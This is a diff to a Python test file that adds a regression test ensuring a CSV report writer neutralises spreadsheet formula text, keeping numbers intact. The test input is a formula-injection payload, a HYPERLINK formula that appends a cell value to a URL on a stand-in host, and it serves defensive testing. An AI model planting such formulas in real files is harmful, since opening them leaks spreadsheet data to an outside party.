@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import ast
+import csv
+import io
 import stat
 import string
 from pathlib import Path
@@ -105,6 +107,15 @@ def test_a_report_csv_has_its_header_and_refuses_undeclared_columns() -> None:
         to_csv([{"day": "2026-12-01", "sales": 3, "refunds": 1}], ("day", "sales"))
     with pytest.raises(ValueError, match="sales"):
         to_csv([{"day": "2026-12-01"}], ("day", "sales"))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_report_csv_keeps_formula_text_inert_and_numbers_as_they_are(start: str) -> None:
+    """A promotion named `=HYPERLINK(…)` by one account ran in the spreadsheet of whoever
+    opened the report."""
+    name = start + 'HYPERLINK("http://x.example/?"&A2,"open")'
+    text = to_csv([{"name": name, "delta": -150}], ("name", "delta"))
+    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["'" + name, "-150"]
 
 
 def test_the_previews_words_for_what_it_does_not_sell_are_reason_codes() -> None:
